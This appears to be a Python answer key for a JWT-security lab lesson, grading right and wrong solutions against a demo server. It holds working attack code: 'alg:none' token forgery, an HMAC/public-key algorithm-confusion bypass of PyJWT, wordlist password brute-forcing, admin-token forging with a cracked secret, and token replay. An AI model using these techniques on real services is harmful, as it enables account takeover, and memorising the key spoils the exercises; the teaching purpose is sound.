"""Answers to the exercises of lesson 7."""

import base64
import json
import re
from concurrent.futures import ThreadPoolExecutor
from random import Random
from typing import Any

import jwt
import requests

from demo_server import published
from demo_server.jose import decode_object
from demo_server.notebook.wordlist import words
from exercises.checks.attacks import ask
from exercises.checks.attacks.flag_by_forging import cracked, flag
from exercises.checks.attacks.flag_by_guessing import guessed
from tests.exercises.answers import Answers


def by_text(token: str, name: str) -> str:
    payload = token.split(".")[1]
    text = base64.urlsafe_b64decode(payload + "==").decode().replace('"mallory"', f'"{name}"')
    return f"eyJhbGciOiJub25lIn0.{base64.urlsafe_b64encode(text.encode()).decode().rstrip('=')}."


def by_pyjwt(token: str, pem: bytes, name: str) -> str:
    """Let PyJWT sign, past its own lock on public keys, by an HMAC key that it does not look at."""
    claims = jwt.decode(token, options={"verify_signature": False}) | {"sub": name}

    class Hmac(jwt.algorithms.HMACAlgorithm):
        def prepare_key(self, key: Any) -> bytes:
            return key if isinstance(key, bytes) else str(key).encode()

    jws = jwt.PyJWS()
    jws.unregister_algorithm("HS256")
    jws.register_algorithm("HS256", Hmac(Hmac.SHA256))
    return jws.encode(json.dumps(claims).encode(), pem, "HS256")


def by_signing_input(token: str) -> str:
    return token[: token.rindex(".")]


def by_jti_of_pyjwt(token: str) -> str:
    """Let PyJWT read: it refuses a spelling with stray bits, and so does the server."""
    claims = jwt.decode(token, options={"verify_signature": False})
    return f"jti:{claims['jti']}" if "jti" in claims else token.rpartition(".")[0]


def constant(_token: str) -> str:
    return "a token"


def shuffled(url: str) -> str:
    for word in Random(url).sample(words()[:120], 120):  # noqa: S311 - no secret
        form = {"id_give": "erin", "pw_give": word}
        if token := requests.post(f"{url}/sign_in", data=form, timeout=9).json().get("token"):
            return str(ask(url, token).json()["msg"])
    return ""


def with_threads(url: str) -> str:
    with requests.Session() as session:
        for word in words():
            form = {"id_give": "erin", "pw_give": word}
            answer = session.post(f"{url}/sign_in", data=form).json()
            if answer["result"] == "success":
                session.cookies.set("mytoken", answer["token"])
                with ThreadPoolExecutor(1) as pool:
                    asked = pool.submit(session.get, f"{url}/flag").result()
                return str(asked.json()["msg"])
    return ""


def by_imported_key(url: str, token: str) -> str:
    claims = jwt.decode(token, options={"verify_signature": False}) | {"id": "admin"}
    return flag(url, jwt.encode(claims, published.SECRET_KEY))


def says_flag(url: str) -> str:
    return "flag-000000000000" if guessed(url) else ""


def by_jwt_encode(url: str, token: str) -> str:
    claims = jwt.decode(token, options={"verify_signature": False})
    return flag(url, jwt.encode(claims | {"id": "admin"}, cracked(token), algorithm="HS256"))


def asks_twice(url: str, token: str) -> str:
    requests.get(f"{url}/temp", timeout=9)
    return by_jwt_encode(url, token)


def guesses_the_flag(_url: str, _token: str) -> str:
    return "flag-123456123456"


def by_dots(url: str, line: str) -> str:
    words_of_it = re.split(r"[^\w.-]+", line)
    return flag(url, max(words_of_it, key=lambda word: (word.count(".") == 2, len(word))))


def each_in_turn(url: str, line: str) -> str:
    for found in re.findall(r"[\w-]+\.[\w-]+\.[\w-]+", line):
        answer = ask(url, found)
        if answer.ok:
            return str(answer.json()["msg"])
    return ""


def whole_words(url: str, line: str) -> str:
    return flag(url, next((w for w in re.split(r"[\s',]+", line) if w.startswith("eyJ")), ""))


def to_the_quote(url: str, line: str) -> str:
    found = re.search(r"ey[^\s']+", line)
    return flag(url, found[0] if found else "")


def signs_up(url: str, line: str) -> str:
    form = {"id_give": "carol", "pw_give": "x"}
    requests.post(f"{url}/sign_up", data=form, timeout=9)
    return flag(url, requests.post(f"{url}/sign_in", data=form, timeout=9).json()["token"])


def header_only(url: str, line: str) -> str:
    return flag(url, line.partition("Bearer ")[2].partition(",")[0])


def by_user_where_jti(token: str) -> str:
    claims = decode_object(token.split(".")[1])
    return str(claims["sub"]) if "jti" in claims else token.rpartition(".")[0]


RIGHT: Answers = {
    "unsigned_for": [by_text],
    "confused_for": [by_pyjwt],
    "list_name": [by_signing_input, by_jti_of_pyjwt],
    "flag_by_guessing": [with_threads, shuffled],
    "flag_by_forging": [by_jwt_encode],
    "flag_by_replay": [by_dots, each_in_turn],
}
WRONG: Answers = {
    "list_name": [by_user_where_jti, constant],
    "flag_by_guessing": [says_flag],
    "flag_by_forging": [asks_twice, guesses_the_flag, by_imported_key],
    "flag_by_replay": [header_only, whole_words, to_the_quote, signs_up],
}
